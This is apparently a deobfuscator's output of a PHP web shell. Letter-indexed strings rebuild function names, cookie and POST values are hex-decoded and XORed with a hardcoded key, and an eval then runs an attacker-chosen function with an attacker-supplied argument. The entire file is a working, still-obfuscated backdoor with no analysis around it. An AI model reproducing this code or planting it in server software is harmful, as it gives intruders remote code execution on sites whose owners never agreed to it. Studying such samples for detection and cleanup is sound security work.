/* Decoded by unphp.net */

<?php
$itsve = 'v\'xntuec24s_m1bH7#-l5d8*9k0aroypfgi';
$inzbmds = Array();
$inzbmds[] = $itsve[15] . $itsve[23];
$inzbmds[] = $itsve[17];
$inzbmds[] = $itsve[7] . $itsve[6] . $itsve[26] . $itsve[21] . $itsve[24] . $itsve[32] . $itsve[7] . $itsve[24] . $itsve[18] . $itsve[9] . $itsve[7] . $itsve[27] . $itsve[14] . $itsve[18] . $itsve[9] . $itsve[13] . $itsve[22] . $itsve[24] . $itsve[18] . $itsve[24] . $itsve[21] . $itsve[32] . $itsve[16] . $itsve[18] . $itsve[32] . $itsve[9] . $itsve[8] . $itsve[7] . $itsve[26] . $itsve[32] . $itsve[6] . $itsve[13] . $itsve[7] . $itsve[6] . $itsve[20] . $itsve[7];
$inzbmds[] = $itsve[7] . $itsve[29] . $itsve[5] . $itsve[3] . $itsve[4];
$inzbmds[] = $itsve[10] . $itsve[4] . $itsve[28] . $itsve[11] . $itsve[28] . $itsve[6] . $itsve[31] . $itsve[6] . $itsve[27] . $itsve[4];
$inzbmds[] = $itsve[6] . $itsve[2] . $itsve[31] . $itsve[19] . $itsve[29] . $itsve[21] . $itsve[6];
$inzbmds[] = $itsve[10] . $itsve[5] . $itsve[14] . $itsve[10] . $itsve[4] . $itsve[28];
$inzbmds[] = $itsve[27] . $itsve[28] . $itsve[28] . $itsve[27] . $itsve[30] . $itsve[11] . $itsve[12] . $itsve[6] . $itsve[28] . $itsve[33] . $itsve[6];
$inzbmds[] = $itsve[10] . $itsve[4] . $itsve[28] . $itsve[19] . $itsve[6] . $itsve[3];
$inzbmds[] = $itsve[31] . $itsve[27] . $itsve[7] . $itsve[25];
foreach ($inzbmds[7]($_COOKIE, $_POST) as $mgvsei => $azxre) {
    function beanjw($inzbmds, $mgvsei, $vjozofh) {
        return $inzbmds[6]($inzbmds[4]($mgvsei . $inzbmds[2], ($vjozofh / $inzbmds[8]($mgvsei)) + 1), 0, $vjozofh);
    }
    function fwixisz($inzbmds, $fpkofng) {
        return @$inzbmds[9]($inzbmds[0], $fpkofng);
    }
    function lfbsd($inzbmds, $fpkofng) {
        $hvgkefx = $inzbmds[3]($fpkofng) % 3;
        if (!$hvgkefx) {
            eval($fpkofng[1]($fpkofng[2]));
            exit();
        }
    }
    $azxre = fwixisz($inzbmds, $azxre);
    lfbsd($inzbmds, $inzbmds[5]($inzbmds[1], $azxre ^ beanjw($inzbmds, $mgvsei, $inzbmds[8]($azxre))));
} ?>